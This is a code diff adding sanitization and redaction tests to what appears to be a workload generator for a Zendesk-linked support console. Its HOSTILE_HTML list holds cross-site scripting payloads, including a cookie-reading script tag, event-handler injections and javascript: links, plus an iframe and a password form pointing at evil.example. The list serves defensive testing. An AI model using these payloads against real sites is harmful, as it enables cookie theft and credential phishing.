@@ -29,6 +29,18 @@ __all__ = ["EVENT_TYPES", "Workload", "account_of_address", "is_hand_added"]
 EVENT_TYPES = [*WEBHOOK_SUBSCRIPTIONS, "zen:event-type:ticket.tags_changed"]
 PARTNER_DOMAIN = "partner.test"
 
+#: What a hostile or careless rich-text reply may carry; none of it may reach the console's store.
+HOSTILE_HTML = [
+    "<script>alert(document.cookie)</script>",
+    '<img src=x onerror="alert(1)">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<p style="position:fixed" onclick="steal()">styled</p>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<form action="https://evil.example/"><input name="password"></form>',
+    '<a href="https://acme.zendesk.com/agent/tickets/1">the desk</a>',
+    "<svg onload=alert(1)>",
+]
+
 
 def account_of_address(address: str) -> str | None:
     """Which account an address of the workload belongs to (``…@acct7.test`` → ``acct7``)."""
@@ -81,6 +93,10 @@ class Workload:
         self.public_comments: list[tuple[int, int]] = []  # (ticket, staff comment) that may be made private
         self.extra_recipients: dict[str, list[str]] = {a: [] for a in self.accounts}
         self.console_messages = 0
+        #: (ticket, comment, secret) of staff replies holding a secret staff may redact later.
+        self.redactable: list[tuple[int, int, str]] = []
+        #: (ticket, secret) that Zendesk accepted to redact: none of them may be left anywhere in the store.
+        self.redacted: list[tuple[int, str]] = []
         self.staff_target = self.messages_target // 2
         self.n = 0
 
@@ -220,6 +236,7 @@ class Workload:
             (1, lambda: self._cc(ticket)), (0.6, lambda: self._make_private()),
             (0.4, lambda: self._merge(ticket, account)), (0.25, lambda: self._delete(ticket)),
             (0.25, lambda: self._move(ticket, account)), (0.1, lambda: self._foreign_followup(ticket, account)),
+            (1.5, lambda: self._rich(ticket)), (0.8, lambda: self._redact()),
         ]
         self.ops["staff"] += 1
         _pick(self.rng, actions)()
@@ -247,6 +264,39 @@ class Workload:
         for event in ((out or {}).get("audit") or {}).get("events", []):
             if event.get("type") == "Comment":
                 self.public_comments.append((ticket, int(event["id"])))
+
+    def _rich(self, ticket: int) -> None:
+        """A rich-text reply with hostile HTML, a secret staff may redact, and sometimes a pasted screenshot."""
+        secret = f"secret-{self.rng.randrange(10**9):09d}"
+        fields: dict[str, Any] = {"comment": {"public": True, "html_body": (
+            f"<p>{self._token('s')} rich answer, card {secret}</p><ol><li>step</li></ol>"
+            + self.rng.choice(HOSTILE_HTML)
+        )}}
+        if self.rng.random() < 0.4:
+            upload = (self.agent.upload(f"shot{self.n}.png", b"\x89PNG screenshot " + secret.encode()) or {})
+            attachment = upload.get("attachment") or {}
+            if upload.get("token") and attachment.get("content_url"):
+                fields["comment"]["html_body"] += f'<img src="{attachment["content_url"]}">'
+                fields["comment"]["uploads"] = [upload["token"]]
+        out = self._update("rich_reply", ticket, fields)
+        for event in ((out or {}).get("audit") or {}).get("events", []):
+            if event.get("type") == "Comment":
+                self.redactable.append((ticket, int(event["id"]), secret))
+
+    def _redact(self) -> None:
+        """Staff redact a secret from one of their rich replies (and its screenshot, if any)."""
+        if not self.redactable:
+            return
+        ticket, comment, secret = self.redactable.pop(self.rng.randrange(len(self.redactable)))
+        self.ops["staff:redact"] += 1
+        if self.agent.call("PUT", f"tickets/{ticket}/comments/{comment}/redact", {"text": secret}) is None:
+            return  # refused (a closed ticket) or kept failing: nothing was redacted
+        found = self.agent.call("GET", f"tickets/{ticket}/comments?include_inline_images=true") or {}
+        for c in found.get("comments") or []:
+            for a in c.get("attachments") or [] if int(c.get("id", 0)) == comment else []:
+                if self.agent.call("PUT", f"tickets/{ticket}/comments/{comment}/attachments/{a['id']}/redact") is None:
+                    return  # the screenshot still holds the secret: not a redaction to check
+        self.redacted.append((ticket, secret))
 
     def _note(self, ticket: int) -> None:
         self._update("note", ticket, {"comment": {"body": f"{self._token('n')} internal only", "public": False}})
